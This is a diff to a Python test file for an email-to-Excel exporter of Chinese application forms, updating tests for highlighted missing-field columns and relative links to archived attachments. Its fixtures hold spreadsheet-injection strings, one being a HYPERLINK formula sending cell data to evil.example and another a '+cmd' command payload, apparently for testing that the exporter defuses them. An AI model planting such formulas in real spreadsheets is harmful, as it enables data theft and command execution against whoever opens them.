@@ -37,7 +37,8 @@ def _messages(tmp_path: Path) -> list[MessageRecord]:
     (tmp_path / "data" / "att" / "ab" / "abcd.docx").write_bytes(b"docx")
     ok = make_message(0, attachments=(make_attachment("申报表0.docx", archive_path="att/ab/abcd.docx"),
                                       make_attachment("申报表0.pdf")))
-    flagged_form = make_form("INBOX/1/2", 1, flags=(Flag("missing_field", "applicant.mobile"),),
+    flagged_form = make_form("INBOX/1/2", 1, flags=(Flag("missing_field", "applicant.mobile"),
+                                                    Flag("missing_field", "承办单位信息·办公电话/手机")),
                              project_name='=HYPERLINK("http://evil.example/?x="&A1,"点击")')
     late = make_message(1, forms=(flagged_form,), flags=(Flag("late", "2024-12-18 10:00"),))
     hostile = make_message(2, forms=(make_form("INBOX/1/3", 2, project_name="+cmd\x0b|'/C calc'\x00\ud800",
@@ -97,6 +98,9 @@ def test_flags_status_and_highlights(book: tuple[Path, openpyxl.Workbook, list[M
     flagged = ws.cell(row=r, column=h["申报单位手机"]).fill.fgColor.rgb
     plain = ws.cell(row=_row_of(ws, "F0000"), column=h["申报单位手机"]).fill.fgColor.rgb
     assert flagged != plain
+    for label in ("承办单位办公电话", "承办单位手机"):  # the rules' label form names two columns
+        assert ws.cell(row=r, column=h[label]).fill.fgColor.rgb == flagged
+    assert ws.cell(row=r, column=h["申报单位"]).fill.fgColor.rgb != flagged
     late_fill = ws.cell(row=r, column=h["培训对象"]).fill.fgColor.rgb
     assert late_fill != ws.cell(row=_row_of(ws, "F0000"), column=h["培训对象"]).fill.fgColor.rgb
 
@@ -138,12 +142,14 @@ def test_attachment_hyperlink_is_relative_to_archived_copy(
         book: tuple[Path, openpyxl.Workbook, list[MessageRecord]]) -> None:
     path, wb, _ = book
     ws = wb["附件"]
-    first = ws.cell(row=2, column=1)
-    assert first.value == "申报表0.docx"
+    h = _header(ws)
+    assert ws.cell(row=2, column=h["文件名"]).value == "申报表0.docx"
+    first = ws.cell(row=2, column=h["原件"])
     target = first.hyperlink.target
     assert not target.startswith("/") and (path.parent / target).resolve().read_bytes() == b"docx"
-    assert ws.cell(row=3, column=1).hyperlink is None  # no archived copy on disk: no link
-    src = wb["申报项目"].cell(row=2, column=_header(wb["申报项目"])["源文件"])
+    assert ws.cell(row=2, column=h["归档副本"]).hyperlink.target == target
+    assert ws.cell(row=3, column=h["原件"]).hyperlink is None  # no archived copy on disk: no link
+    src = wb["申报项目"].cell(row=2, column=_header(wb["申报项目"])["原件"])
     assert src.hyperlink is not None and src.hyperlink.target == target
 
 
